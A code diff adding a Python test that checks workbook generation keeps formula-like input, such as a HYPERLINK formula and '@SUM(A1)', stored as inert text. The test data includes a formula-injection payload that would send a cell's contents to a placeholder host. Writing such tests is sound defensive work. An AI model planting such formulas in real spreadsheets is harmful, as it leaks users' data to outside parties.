@@ -375,3 +375,19 @@ def test_a_mapped_file_is_the_same_import_only_with_the_same_mapping(db: Path, t
     con = connect(db, read_only=True)
     assert con.execute("SELECT count(*), count(mapping_sha256) FROM air_import_batch").fetchone() == (1, 1)
     con.close()
+
+
+def test_workbooks_keep_formula_like_text_as_text(tmp_path: Path) -> None:
+    """A name such as =HYPERLINK(…) from a file must not become a live formula in a workbook we write."""
+    from openpyxl import load_workbook
+
+    from ecozone.ingest.observations import ListSheet, write_workbook_template
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    out = write_workbook_template(
+        tmp_path / "t.xlsx", columns=["region", "value"], column_help={}, rows=[[evil, 1]],
+        example=[["=1+1", 2]], lists=[ListSheet("regions", ["code"], [["@SUM(A1)"], [evil]], "region")])
+    wb = load_workbook(out)
+    cells = [wb["observations"]["A2"], wb["示例 example"]["A3"], wb["regions"]["A3"]]
+    assert [c.value for c in cells] == [evil, "=1+1", evil]
+    assert all(c.data_type == "s" for c in cells)
